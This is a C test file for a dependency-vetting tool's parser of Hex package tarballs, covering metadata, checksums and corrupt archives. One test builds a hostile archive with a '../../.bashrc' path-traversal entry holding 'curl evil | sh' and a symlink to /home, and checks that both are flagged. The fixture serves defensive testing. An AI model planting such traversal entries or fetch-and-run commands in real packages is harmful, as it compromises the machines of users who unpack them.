/* Hex tarballs: built here (outer tar around a contents.tar.gz) and the
 * real jason tarballs of the corpus with their recorded checksums. */
#include <criterion/criterion.h>
#include <stdio.h>
#include <string.h>

#include "archive_build.h"
#include "depvet/analysis/hex_tarball.h"
#include "depvet/core/fileio.h"
#include "depvet/core/hash.h"
#include "helpers.h"

static const char meta_new[] =
    "{<<\"name\">>,<<\"demo\">>}.\n"
    "{<<\"version\">>,<<\"0.2.0\">>}.\n"
    "{<<\"app\">>,<<\"demo\">>}.\n"
    "{<<\"description\">>,<<67,97,102,195,169>>}.\n"
    "{<<\"licenses\">>,[<<\"MIT\">>,<<\"Apache-2.0\">>]}.\n"
    "{<<\"links\">>,[{<<\"GitHub\">>,<<\"https://github.com/x/demo\">>}]}.\n"
    "{<<\"build_tools\">>,[<<\"mix\">>,<<\"make\">>]}.\n"
    "{<<\"files\">>,[<<\"lib/demo.ex\">>,<<\"mix.exs\">>]}.\n"
    "{<<\"requirements\">>,[{<<\"jason\">>,[{<<\"app\">>,<<\"jason\">>},"
    "{<<\"optional\">>,false},{<<\"requirement\">>,<<\"~> 1.0\">>},"
    "{<<\"repository\">>,<<\"hexpm\">>}]},"
    "{<<\"telemetry\">>,[{<<\"optional\">>,true},{<<\"requirement\">>,<<\">= 0.0.0\">>}]}]}.\n";

struct built {
    unsigned char *buf;
    size_t len;
    unsigned char inner[32];
};

/* VERSION, CHECKSUM (of the real inner checksum unless `checksum` is
 * given), metadata, and a contents.tar.gz holding `inner`. */
static void build(struct built *out, const char *meta, const char *checksum,
                  const struct ab_item *inner, size_t n_inner, bool with_contents)
{
    struct ab c;
    ab_begin(&c, AB_TGZ, 1 << 20);
    ab_items(&c, inner, n_inner);
    ab_end(&c);
    struct hash_ctx *h = hash_new(HASH_SHA256);
    hash_update(h, "3", 1);
    hash_update(h, meta, strlen(meta));
    hash_update(h, c.buf, c.used);
    hash_final(h, out->inner);
    hash_free(h);
    char hex[65];
    hash_hex_encode(out->inner, 32, hex);
    for (char *p = hex; *p; p++)
        *p = (char)(*p >= 'a' ? *p - 32 : *p);
    struct ab o;
    ab_begin(&o, AB_TAR, 2 << 20);
    ab_entry(&o, "VERSION", AE_IFREG, "3", 1, NULL, NULL);
    ab_file(&o, "CHECKSUM", checksum ? checksum : hex);
    ab_file(&o, "metadata.config", meta);
    if (with_contents)
        ab_entry(&o, "contents.tar.gz", AE_IFREG, c.buf, c.used, NULL, NULL);
    ab_end(&o);
    free(c.buf);
    out->buf = o.buf;
    out->len = o.used;
}

/* Builds and opens; the tarball must open without a diagnostic. */
static struct hex_tarball *build_open(struct built *b, const char *meta, const char *checksum,
                                      const struct ab_item *inner, size_t n_inner,
                                      const char *name)
{
    build(b, meta, checksum, inner, n_inner, true);
    struct diag d;
    diag_clear(&d);
    struct hex_tarball *t = hex_tarball_open(b->buf, b->len, name, NULL, &d);
    cr_assert_not_null(t, "%s", d.msg);
    cr_assert_not(diag_failed(&d));
    return t;
}

static const struct ab_item demo_files[] = {
    {"lib/demo.ex", 0, "defmodule Demo do\nend\n", NULL, NULL},
    {"mix.exs", 0, "defmodule Demo.MixProject do\nend\n", NULL, NULL},
};

Test(hex_tarball, metadata_contents_and_checksums)
{
    struct built b;
    struct hex_tarball *t = build_open(&b, meta_new, NULL, demo_files, 2, "demo-0.2.0.tar");
    cr_assert_str_eq(t->format_version, "3");
    const struct hex_metadata *m = &t->meta;
    cr_assert_str_eq(m->name, "demo");
    cr_assert_str_eq(m->version, "0.2.0");
    cr_assert_str_eq(m->app, "demo");
    cr_assert_str_eq(m->description, "Caf\xc3\xa9");
    cr_assert_null(m->elixir);
    cr_assert_eq(m->n_licenses, 2);
    cr_assert_str_eq(m->licenses[1], "Apache-2.0");
    cr_assert_eq(m->n_links, 1);
    cr_assert_str_eq(m->links[0].label, "GitHub");
    cr_assert_str_eq(m->links[0].url, "https://github.com/x/demo");
    cr_assert_eq(m->n_build_tools, 2);
    cr_assert_eq(m->n_files, 2);
    cr_assert_eq(m->n_requirements, 2);
    cr_assert_str_eq(m->requirements[0].name, "jason");
    cr_assert_str_eq(m->requirements[0].app, "jason");
    cr_assert_str_eq(m->requirements[0].requirement, "~> 1.0");
    cr_assert_str_eq(m->requirements[0].repository, "hexpm");
    cr_assert_not(m->requirements[0].optional);
    cr_assert_str_eq(m->requirements[1].name, "telemetry");
    cr_assert(m->requirements[1].optional);
    cr_assert_null(m->requirements[1].app);

    unsigned char outer[32];
    hash_buffer(HASH_SHA256, b.buf, b.len, outer);
    cr_assert(memcmp(t->outer_checksum, outer, 32) == 0);
    cr_assert(memcmp(t->inner_checksum, b.inner, 32) == 0);
    cr_assert(t->checksum_file_matches);
    char hex[65];
    hash_hex_encode(outer, 32, hex);
    cr_assert(hex_tarball_digest_matches(t->outer_checksum, hex));
    cr_assert_not(hex_tarball_digest_matches(t->inner_checksum, hex));
    cr_assert_not(hex_tarball_digest_matches(t->outer_checksum, "abc"));

    cr_assert_eq(t->contents->n_items, 2);
    cr_assert_eq(t->contents->n_problems, 0);
    cr_assert_str_eq((const char *)archive_listing_find(t->contents, "mix.exs")->data,
                     "defmodule Demo.MixProject do\nend\n");
    cr_assert_str_eq(t->contents->name, "demo-0.2.0.tar/contents.tar.gz");
    cr_assert_eq(t->outer->n_items, 4);
    hex_tarball_free(t);
    free(b.buf);
}

Test(hex_tarball, old_requirements_form_and_checksum_mismatch)
{
    static const char meta_old[] =
        "{<<\"name\">>,<<\"old\">>}.\n{<<\"version\">>,<<\"1.0.0\">>}.\n"
        "{<<\"requirements\">>,[[{<<\"app\">>,<<\"decimal\">>},{<<\"name\">>,<<\"decimal\">>},"
        "{<<\"optional\">>,true},{<<\"requirement\">>,<<\"~> 1.0\">>}]]}.\n";
    struct built b;
    struct hex_tarball *t = build_open(
        &b, meta_old, "0000000000000000000000000000000000000000000000000000000000000000",
        demo_files, 1, "old.tar");
    cr_assert_eq(t->meta.n_requirements, 1);
    cr_assert_str_eq(t->meta.requirements[0].name, "decimal");
    cr_assert(t->meta.requirements[0].optional);
    cr_assert_not(t->checksum_file_matches);
    cr_assert(memcmp(t->inner_checksum, b.inner, 32) == 0);
    hex_tarball_free(t);
    free(b.buf);
}

Test(hex_tarball, hostile_contents_are_problems)
{
    static const struct ab_item evil[] = {
        {"lib/x.ex", 0, "x", NULL, NULL},
        {"../../.bashrc", 0, "curl evil | sh", NULL, NULL},
        {"priv/link", AE_IFLNK, NULL, "/home", NULL},
    };
    struct built b;
    struct hex_tarball *t = build_open(&b, meta_new, NULL, evil, 3, "evil.tar");
    cr_assert_eq(archive_listing_count(t->contents, ARCHIVE_PROBLEM_DOTDOT), 1);
    cr_assert_eq(archive_listing_count(t->contents, ARCHIVE_PROBLEM_SYMLINK), 1);
    hex_tarball_free(t);
    free(b.buf);
}

Test(hex_tarball, refused_when_not_hex)
{
    struct built b;
    struct diag d;
    build(&b, meta_new, NULL, demo_files, 2, false);
    diag_clear(&d);
    cr_assert_null(hex_tarball_open(b.buf, b.len, "nocontents.tar", NULL, &d));
    cr_assert_not_null(strstr(d.msg, "contents.tar.gz"), "%s", d.msg);
    free(b.buf);

    build(&b, "{<<\"name\">>,<<\"x\">>}.\n{oops", NULL, demo_files, 2, true);
    diag_clear(&d);
    cr_assert_null(hex_tarball_open(b.buf, b.len, "badmeta.tar", NULL, &d));
    cr_assert_str_eq(d.where, "badmeta.tar/metadata.config");
    cr_assert_eq(d.line, 2);
    free(b.buf);

    build(&b, "{<<\"name\">>,<<\"x\">>}.\n", NULL, demo_files, 2, true);
    diag_clear(&d);
    cr_assert_null(hex_tarball_open(b.buf, b.len, "nover.tar", NULL, &d));
    cr_assert(diag_failed(&d));
    free(b.buf);

    diag_clear(&d);
    cr_assert_null(hex_tarball_open("nope", 4, "junk", NULL, &d));
    cr_assert(diag_failed(&d));
}

/* Checksums recorded in the corpus's SOURCES.md table rows
 * "| `jason-1.0.0.tar` | bytes | `outer` | `INNER` |". */
static bool recorded(const char *sources, const char *file, char *outer, char *inner)
{
    char key[64];
    snprintf(key, sizeof(key), "| `%s` |", file);
    const char *row = strstr(sources, key);
    if (!row)
        return false;
    return sscanf(row, "| `%*[^`]` | %*u | `%64[0-9a-fA-F]` | `%64[0-9a-fA-F]` |", outer,
                  inner) == 2;
}

Test(hex_tarball, corpus_jason_checksums_and_metadata)
{
    char buf[512], path[1024];
    const char *sources = test_corpus("tarballs/SOURCES.md", buf, sizeof(buf));
    if (!sources)
        cr_skip("corpus tarballs not present");
    struct diag d;
    diag_clear(&d);
    size_t slen;
    char *md = file_read(sources, 1 << 20, &slen, &d);
    cr_assert_not_null(md, "%s", d.msg);
    static const char *const files[] = {"jason-1.0.0.tar", "jason-1.1.0.tar"};
    static const size_t dups[] = {0, 8};   /* 1.1.0's contents list 8 files twice */
    for (size_t i = 0; i < 2; i++) {
        snprintf(path, sizeof(path), "%.*s/hex/%s", (int)(strrchr(sources, '/') - sources),
                 sources, files[i]);
        size_t len;
        char *data = file_read(path, 1 << 24, &len, &d);
        cr_assert_not_null(data, "%s", d.msg);
        struct hex_tarball *t = hex_tarball_open(data, len, files[i], NULL, &d);
        cr_assert_not_null(t, "%s: %s", files[i], d.msg);
        cr_assert_str_eq(t->meta.name, "jason");
        cr_assert_eq(strncmp(files[i] + 6, t->meta.version, 5), 0);
        cr_assert_eq(t->meta.n_requirements, 1);
        cr_assert_str_eq(t->meta.requirements[0].name, "decimal");
        cr_assert(t->meta.requirements[0].optional);
        cr_assert(t->checksum_file_matches, "%s", files[i]);
        cr_assert_eq(t->outer->n_problems, 0);
        cr_assert(t->contents->complete);
        cr_assert_eq(t->contents->n_problems, dups[i], "%s", files[i]);
        cr_assert_eq(archive_listing_count(t->contents, ARCHIVE_PROBLEM_DUPLICATE), dups[i]);
        cr_assert_not_null(archive_listing_find(t->contents, "lib/jason.ex"));
        char outer[65], inner[65];
        /* Recorded wherever SOURCES.md names the file. */
        if (strstr(md, files[i])) {
            cr_assert(recorded(md, files[i], outer, inner), "%s", files[i]);
            cr_assert(hex_tarball_digest_matches(t->outer_checksum, outer), "%s", files[i]);
            cr_assert(hex_tarball_digest_matches(t->inner_checksum, inner), "%s", files[i]);
        }
        hex_tarball_free(t);
        free(data);
    }
    free(md);
}

Test(hex_tarball, corrupt_contents_still_give_metadata)
{
    struct ab c;
    ab_begin(&c, AB_TGZ, 1 << 20);
    AB_ITEMS(&c, demo_files);
    ab_end(&c);
    struct ab o;
    ab_begin(&o, AB_TAR, 1 << 20);
    ab_entry(&o, "VERSION", AE_IFREG, "3", 1, NULL, NULL);
    ab_file(&o, "metadata.config", meta_new);
    ab_entry(&o, "contents.tar.gz", AE_IFREG, c.buf, c.used / 2, NULL, NULL);
    ab_end(&o);
    struct diag d;
    diag_clear(&d);
    struct hex_tarball *t = hex_tarball_open(o.buf, o.used, "cut.tar", NULL, &d);
    cr_assert_not_null(t);
    cr_assert(diag_failed(&d));
    cr_assert_str_eq(d.where, "cut.tar/contents.tar.gz");
    cr_assert_str_eq(t->meta.name, "demo");
    cr_assert_null(t->checksum_file);
    cr_assert_not(t->checksum_file_matches);
    cr_assert_eq(archive_listing_count(t->contents, ARCHIVE_PROBLEM_CORRUPT), 1);
    hex_tarball_free(t);
    free(o.buf);
    free(c.buf);
}
